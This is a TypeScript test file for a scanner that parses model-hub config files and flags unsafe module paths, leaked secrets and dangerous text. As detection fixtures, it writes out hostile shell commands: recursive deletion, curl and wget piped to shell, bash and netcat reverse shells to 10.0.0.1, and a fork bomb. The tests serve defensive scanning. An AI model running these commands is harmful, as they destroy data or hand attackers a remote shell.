import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { bufferSource } from '../../../core/bytes.js';
import type { FileInput, SiblingResolver } from '../../../core/extractor.js';
import { DEFAULT_LIMITS } from '../../../core/limits.js';
import type { HubFacts } from '../../../core/model-facts/hub.js';
import { codeLikeText, dangerousShellCommand, hubExtractor, liveLookingSecret } from './index.js';

const fixtures = fileURLToPath(new URL('./__fixtures__/', import.meta.url));

/** A resolver over a map of path -> text, standing in for the scanned tree. */
function tree(files: Record<string, string>): SiblingResolver {
  const resolver: SiblingResolver = {
    exists: (path) => path in files,
    list: (folder) => Object.keys(files).filter((p) => (folder === '.' ? !p.includes('/') : p.startsWith(`${folder}/`) && !p.slice(folder.length + 1).includes('/'))).map((p) => p.split('/').pop()!).sort(),
    open: (path) => (path in files ? input(path, files[path]!, resolver) : undefined),
  };
  return resolver;
}

function input(path: string, text: string, siblings: SiblingResolver): FileInput {
  const bytes = new TextEncoder().encode(text);
  return { path, size: bytes.length, head: bytes.subarray(0, 65536), source: bufferSource(bytes), siblings };
}

function hubOf(path: string, files: Record<string, string>): HubFacts | undefined {
  const siblings = tree(files);
  const { components } = hubExtractor.extract(input(path, files[path]!, siblings), { limits: DEFAULT_LIMITS });
  const metadata = components[0]?.metadata;
  return metadata?.type === 'model-file' ? metadata.hub : undefined;
}

describe('hub config extractor', () => {
  it('resolves auto_map entries to module files, other repositories and missing files', () => {
    const read = (name: string) => readFileSync(`${fixtures}remote-code-model/${name}`, 'utf8');
    const files = {
      'm/config.json': read('config.json'),
      'm/tokenizer_config.json': read('tokenizer_config.json'),
      'm/modeling_x.py': read('modeling_x.py'),
      'm/configuration_x.py': read('configuration_x.py'),
      'm/convert_weights.py': '',
    };
    const hub = hubOf('m/config.json', files)!;
    expect(hub.role).toBe('config.json');
    expect(hub.modelType).toBe('x');
    expect(hub.architectures).toEqual(['XModel']);
    expect(hub.codeReferences.map((r) => [r.key, r.module, r.className, r.file, r.exists, r.repo])).toEqual([
      ['AutoConfig', 'configuration_x', 'XConfig', 'm/configuration_x.py', true, undefined],
      ['AutoModel', 'modeling_x', 'XModel', 'm/modeling_x.py', true, undefined],
      ['AutoModelForCausalLM', 'modeling_y', 'YForCausalLM', undefined, false, 'other-org/x-code'],
    ]);
    expect(hub.otherPythonFiles).toEqual(['m/convert_weights.py']);
    const tokenizer = hubOf('m/tokenizer_config.json', files)!;
    expect(tokenizer.codeReferences.map((r) => [r.key, r.file, r.exists])).toEqual([['AutoTokenizer[0]', 'm/tokenization_x.py', false]]);
    expect(tokenizer.otherPythonFiles).toEqual([]);
  });

  it('reads custom_pipelines and flags module paths that are not plain modules', () => {
    const config = JSON.stringify({ model_type: 'x', custom_pipelines: { 'text-classification': { impl: 'pipe.MyPipeline', pt: ['AutoModel'] } }, auto_map: { AutoModel: '../evil.X' } });
    const hub = hubOf('config.json', { 'config.json': config, 'pipe.py': '' })!;
    expect(hub.codeReferences.map((r) => [r.source, r.module, r.exists, r.escapes])).toEqual([
      ['auto_map', '../evil', false, true],
      ['custom_pipelines', 'pipe', true, false],
    ]);
  });

  it('claims config-named JSON only in model folders or when it carries a command or secret', () => {
    expect(hubOf('app/settings_config.json', { 'app/settings_config.json': '{"debug": true}' })).toBeUndefined();
    expect(hubOf('app/config.json', { 'app/config.json': '{"port": 8080}' })).toBeUndefined();
    expect(hubOf('m/training_config.json', { 'm/training_config.json': '{"lr": 0.1}', 'm/model.safetensors': '' })?.role).toBe('model-config');
    const leaked = hubOf('app/deploy_manifest.json', { 'app/deploy_manifest.json': JSON.stringify({ aws: { key: 'AKIA' + 'ABCDEFGHIJKLMNOP' } }) })!;
    expect(leaked.suspiciousValues).toEqual([{ kind: 'secret', key: 'aws.key', pattern: 'aws-access-key', excerpt: expect.stringContaining('characters') }]);
  });

  it('never throws on random or deeply nested input', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (text) => {
        const result = hubExtractor.extract(input('config.json', text, tree({ 'config.json': text })), { limits: DEFAULT_LIMITS });
        expect(result.components.length).toBeLessThanOrEqual(1);
      }),
      { numRuns: 500 },
    );
    const deep = `{"auto_map":${'['.repeat(50000)}`;
    expect(() => hubExtractor.extract(input('config.json', deep, tree({ 'config.json': deep })), { limits: DEFAULT_LIMITS })).not.toThrow();
  });
});

describe('suspicious text patterns', () => {
  it.each([
    ['rm -rf /', 'rm-recursive'],
    ['rm -rf ~/', 'rm-recursive'],
    ['curl -s http://x.invalid/a.sh | bash', 'pipe-to-shell'],
    ['wget -qO- http://x.invalid/a | sudo sh', 'pipe-to-shell'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'reverse-shell'],
    ['nc -e /bin/sh 10.0.0.1 4444', 'reverse-shell'],
    [':(){ :|:& };:', 'fork-bomb'],
  ])('%s is a dangerous shell command (%s)', (text, pattern) => {
    expect(dangerousShellCommand(text)?.pattern).toBe(pattern);
  });

  it.each(['https://huggingface.co/bert-base-uncased', 'rm_rf_flag', 'the model removes noise', 'sk-learn', 'float32', 'Remove the folder with care', '<|im_start|>'])(
    '%s is not a dangerous command or a secret',
    (text) => {
      expect(dangerousShellCommand(text)).toBeUndefined();
      expect(liveLookingSecret(text)).toBeUndefined();
    },
  );

  it('redacts secrets', () => {
    const match = liveLookingSecret(`token: hf_${'a1'.repeat(17)}`)!;
    expect(match.pattern).toBe('huggingface-token');
    expect(match.text).not.toContain('a1a1a1');
  });

  it('finds code-like metadata but not plain descriptions', () => {
    expect(codeLikeText("import os; os.system('id')")?.pattern).toBe('python-code');
    expect(codeLikeText('<script>alert(1)</script>')?.pattern).toBe('script-tag');
    expect(codeLikeText('A small transformer model for text classification')).toBeUndefined();
    expect(codeLikeText('94.5%')).toBeUndefined();
  });
});
